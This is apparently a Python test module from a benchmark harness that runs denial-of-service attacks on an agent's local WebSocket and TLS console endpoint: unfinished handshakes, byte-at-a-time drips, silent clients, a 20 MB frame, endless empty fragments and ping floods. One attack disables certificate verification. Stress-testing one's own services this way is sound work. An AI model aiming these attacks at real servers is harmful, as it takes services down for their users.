"""
What somebody can do to an agent with WebSockets and TLS.
"""

from __future__ import annotations

import ssl
from collections.abc import Callable, Iterator
from itertools import chain, repeat
from time import monotonic

from bench.attacks import MIB, PATIENCE, Attack, Victim, crowd
from bench.crowd import Crowd, Stream

HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32)
"""How a handshake of TLS begins (RFC 8446, section 4.1.2)."""

MASKED = b"\x80\0\0\0\0"
"""No payload, with a mask that changes nothing (RFC 6455, section 5.2)."""

EMPTY_TEXT, EMPTY_PART, EMPTY_PING = (bytes([first]) + MASKED for first in (0x01, 0x00, 0x89))
"""Frames: the beginning of a message, more of one, a question."""


def handshake(victim: Victim) -> bytes:
    """
    To the console of a process, without its end.
    """
    return (
        f"GET /attach-console/{victim.slug}?stdin=1 HTTP/1.1\r\nHost: localhost\r\n"
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    ).encode()


def begun(victim: Victim) -> str:
    """
    Handshakes of WebSockets that are not ended.
    """
    return str(crowd(victim, victim.count, handshake(victim)).outlast(victim.hold))


def begun_secure(victim: Victim) -> str:
    """
    Handshakes of TLS that are not ended.
    """
    return str(crowd(victim, victim.count, HELLO, secure=True).outlast(victim.hold))


def dripped_secure(victim: Victim) -> str:
    """
    Handshakes of TLS that go on a byte now and then.
    """
    members = crowd(victim, victim.count // 10, HELLO[:6], secure=True)
    return str(members.outlast(victim.hold, drip=[bytes([byte]) for byte in HELLO[6:]]))


def dripped_within(victim: Victim) -> str:
    """
    Requests over TLS that go on a byte now and then.
    """
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    first = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: "
    with victim.storm:
        members = Crowd.gather(victim.secure, victim.count // 10, first, context=context)
    return str(members.outlast(victim.hold, drip=[b"a"]))


def mute(victim: Victim) -> str:
    """
    Clients that are attached, and neither read nor answer.
    """
    members = crowd(victim, victim.count // 10, handshake(victim) + b"\r\n")
    return str(members.outlast(victim.hold, read=0))


def framing(parts: Callable[[], Iterator[bytes]]) -> Callable[[Victim], str]:
    """
    A WebSocket that sends this as fast as it is taken.
    """

    def run(victim: Victim) -> str:
        first = handshake(victim) + b"\r\n"
        poured = Stream(victim.port).pour(chain([first], parts()), PATIENCE)
        frames = poured.received.partition(b"\r\n\r\n")[2]
        code = int.from_bytes(frames[2:4], "big") if frames[:1] == b"\x88" else 0
        said = f"closed with {code}" if code else f"no close frame, but {frames[:20]!r}"
        return f"{said}, over after {poured.ended:.1f} s, {poured.taken / MIB:.2f} MiB read"

    return run


def huge() -> Iterator[bytes]:
    """
    A frame of 20 MB.
    """
    size = 20 << 20
    yield b"\x82\xff" + size.to_bytes(8, "big") + bytes(4)
    yield from repeat(bytes(1 << 16), size >> 16)


def endless() -> Iterator[bytes]:
    """
    A message of empty frames.
    """
    yield EMPTY_TEXT
    yield from repeat(EMPTY_PART * 10_000, 200)


def pinging(victim: Victim) -> str:
    """
    Questions without an end, whose answers are not read.
    """
    members = crowd(victim, 1, handshake(victim) + b"\r\n")
    [member] = members.members
    member.settimeout(victim.seconds)
    end, sent = monotonic() + victim.seconds, 0
    try:
        while monotonic() < end:
            sent += member.send(EMPTY_PING * 10_000)
    except TimeoutError:
        said = "and then was not read from"
    except OSError as error:
        said = f"then {error.strerror}"
    else:
        said = "all the time"
    members.leave()
    return f"{sent // len(EMPTY_PING) / victim.seconds:,.0f} pings a second, {said}"


OF_SOCKETS = (
    Attack(name="1,000 handshakes of WebSockets, begun", run=begun, waits=True),
    Attack(name="1,000 handshakes of TLS, begun", run=begun_secure, waits=True),
    Attack(name="handshakes of TLS, a byte at a time", run=dripped_secure, waits=True),
    Attack(name="requests over TLS, a byte at a time", run=dripped_within, waits=True),
    Attack(name="100 WebSockets that are mute", run=mute, waits=True),
    Attack(name="a frame of 20 MB", run=framing(huge), waits=True),
    Attack(name="a message of empty frames, without an end", run=framing(endless), waits=True),
    Attack(name="pings without an end, answers not read", run=pinging),
)
